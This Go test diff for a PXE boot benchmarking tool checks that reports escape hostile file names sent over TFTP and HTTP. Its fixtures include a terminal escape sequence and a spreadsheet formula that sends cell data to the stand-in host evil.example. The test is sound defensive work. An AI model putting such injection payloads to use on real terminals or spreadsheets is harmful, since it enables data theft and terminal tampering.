@@ -7,7 +7,10 @@ import (
 	"encoding/json"
 	"fmt"
 	"io"
+	"net"
 	"net/http"
+	"net/netip"
+	"net/url"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -288,4 +291,110 @@ func TestStoreJournalCapPostgresDown(t *testing.T) {
 		t.Errorf("%d stored + %d dropped != %d fetches completed: a record a client completed was lost below the cap",
 			stored, h.Records.Dropped, done.Load())
 	}
+}
+
+// hostileNames are file names a board on a hostile network asks for: an
+// OSC sequence that retitles the terminal and a clear-screen, a
+// spreadsheet formula that calls out, a newline and a Markdown pipe.
+var hostileNames = []string{
+	"\x1b]0;owned\x07\x1b[2Jboot.efi",
+	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
+	"pxelinux.cfg/a\nb|c",
+}
+
+// rrqFlood sends a TFTP RRQ for each of names from the client side, n
+// rounds (issue 27 row 16: each becomes an error record with that name).
+func rrqFlood(names []string, n int) flood {
+	return func(ctx context.Context, t *testing.T, l *lab) {
+		err := nstest.Do(l.P.Client, func() error {
+			c, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(netip.AddrPortFrom(l.P.ServerIP, 69)))
+			if err != nil {
+				return err
+			}
+			defer c.Close()
+			for range n {
+				for _, name := range names {
+					if ctx.Err() != nil {
+						return nil
+					}
+					if _, err := c.Write([]byte("\x00\x01" + name + "\x00octet\x00")); err != nil {
+						return err
+					}
+				}
+			}
+			return nil
+		})
+		if err != nil {
+			t.Errorf("RRQ flood: %v", err)
+		}
+	}
+}
+
+// TestOutputInjection (issue 27 row 16): TFTP RRQs and HTTP GETs for
+// hostile names end up as records; `pxeperf report` in text, Markdown and
+// CSV and `pxeperf status` print them with the controls escaped, formulas
+// prefixed and rows whole.
+func TestOutputInjection(t *testing.T) {
+	nstest.RequireTool(t, "curl")
+	l := newLab(t, nstest.Options{}, "dhcp:\n  mode: off\n", putSmallImage)
+	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
+	defer cancel()
+	rrqFlood(hostileNames, 1)(ctx, t, l)
+	for _, name := range hostileNames {
+		out, err := nstest.Command(ctx, l.P.Client, "curl", "-s", "-o", "/dev/null", "-w", "%{http_code}",
+			"http://"+l.P.ServerIP.String()+"/"+urlPath(name)).CombinedOutput()
+		if err != nil || string(out) != "404" {
+			t.Fatalf("curl %q: %v %s", name, err, out)
+		}
+	}
+	// Every record is in the store (the writer commits within a second).
+	report := func(format string) string {
+		out, err := nstest.Output("", 20*time.Second, nstest.Binary(t), "report", "--data", l.S.Data, "--table", "fetches",
+			"--kind", "all", "--format", format)
+		if err != nil {
+			t.Fatalf("pxeperf report --format %s: %v\n%s", format, err, out)
+		}
+		return out
+	}
+	if !nstest.WaitFor(10*time.Second, func() bool { return strings.Count(report("csv"), "\n") >= 1+2*len(hostileNames) }) {
+		t.Fatalf("the records of the hostile fetches did not reach the store:\n%s", report("csv"))
+	}
+	for _, format := range []string{"text", "markdown", "csv"} {
+		out := report(format)
+		t.Logf("report --format %s:\n%s", format, out)
+		if strings.ContainsAny(out, "\x1b\x07") {
+			t.Errorf("report --format %s prints raw escape sequences: %q", format, out)
+		}
+		rows := 0
+		for _, line := range strings.Split(out, "\n") {
+			if strings.Contains(line, "pxelinux.cfg/a") {
+				rows++
+				if !strings.Contains(line, `x0ab`) { // \x0a (\\x0a in Markdown)
+					t.Errorf("report --format %s: the newline in a name is not escaped: %q", format, line)
+				}
+				if format == "markdown" && !strings.Contains(line, `\|c`) {
+					t.Errorf("markdown: the pipe in a name splits the cell: %q", line)
+				}
+			}
+			if format == "csv" && strings.Contains(line, "HYPERLINK") && !strings.Contains(line, `"'=HYPERLINK`) {
+				t.Errorf("csv: the formula is not neutralised: %q", line)
+			}
+		}
+		if rows != 2 {
+			t.Errorf("report --format %s: %d rows with the newline name, want 2 (TFTP, HTTP) whole rows", format, rows)
+		}
+	}
+	out := status(t, l)
+	if strings.ContainsAny(out, "\x1b\x07") || !strings.Contains(out, `\x1b]0;owned`) {
+		t.Errorf("pxeperf status prints the names raw:\n%q", out)
+	}
+}
+
+// urlPath escapes a name for a URL path, keeping '/'.
+func urlPath(name string) string {
+	parts := strings.Split(name, "/")
+	for i, p := range parts {
+		parts[i] = url.PathEscape(p)
+	}
+	return strings.Join(parts, "/")
 }
